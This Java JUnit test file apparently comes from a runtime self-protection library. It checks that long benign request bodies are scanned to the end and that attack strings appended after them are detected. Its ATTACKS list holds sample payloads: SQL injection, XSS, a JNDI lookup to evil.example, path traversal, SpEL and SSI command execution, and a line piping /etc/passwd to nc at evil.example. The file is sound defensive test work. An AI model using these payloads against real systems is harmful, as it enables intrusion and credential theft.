package io.github.raspspring.growth;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Long honest texts are judged to their end within the budget, whatever reader brings
 * them, and an attack at their end is found: each text before two attacks, all attacks in
 * each kind of body. Steps are counted, nothing is timed.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class LongTextTests {

	/** More than one piece of a long value. */
	private static final int LENGTH = 70 * 1024;

	private static final List<String> ATTACKS = List.of(" x' UNION SELECT name, password FROM users WHERE 'a'='a",
			" <img src=x onerror=alert(1)>", " ${jndi:ldap://evil.example/a}", " ../../../../../../etc/passwd",
			" ; cat /etc/passwd | nc evil.example 99", " ${T(java.lang.Runtime).getRuntime().exec('id')}",
			" <!--#exec cmd=\"cat /etc/passwd\" -->");

	private static final List<HonestText> BEFORE = List.of(HonestText.PROSE, HonestText.LOG, HonestText.TABLE,
			HonestText.MESSAGE, HonestText.WORLD, HonestText.ENCODED);

	private final Function<String, Object[]> judged = ReaderGrowthTests.counted(LongTexts.class);

	LongTextTests() throws ReflectiveOperationException {
	}

	@ParameterizedTest
	@ValueSource(strings = { "text", "json", "xml", "form", "csv", "yaml", "graphql" })
	void judgeWhenLongTextIsHonestThenAllOfItIsJudged(String kind) {
		List<String> unjudged = new ArrayList<>();
		for (HonestText text : HonestText.values()) {
			if (judge(kind, text.text(LENGTH))[0] > 0) {
				unjudged.add(text.name());
			}
		}
		assertThat(unjudged).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "text", "json", "xml", "form", "csv", "yaml", "graphql" })
	void judgeWhenAttackStandsBehindALongTextThenIsFound(String kind) {
		List<String> missed = new ArrayList<>();
		for (int i = 0; i < BEFORE.size(); i++) {
			String honest = BEFORE.get(i).text(LENGTH);
			if (judge(kind, honest)[1] > 0) {
				missed.add(BEFORE.get(i) + " is refused without an attack");
			}
			for (String attack : List.of(ATTACKS.get(i), ATTACKS.get((i + 3) % ATTACKS.size()))) {
				long[] found = judge(kind, honest + attack);
				if (found[0] > 0 || found[1] == 0) {
					missed.add(BEFORE.get(i) + attack);
				}
			}
		}
		assertThat(missed).isEmpty();
	}

	/**
	 * What costs too much is not taken for judged.
	 */
	@Test
	void budgetIsUsedUpByWhatTakesLong() {
		assertThat(judge("hurried", HonestText.CODE.text(LENGTH))[0]).isEqualTo(1);
	}

	private long[] judge(String kind, String text) {
		return (long[]) this.judged.apply(kind + "\n" + text)[1];
	}

}
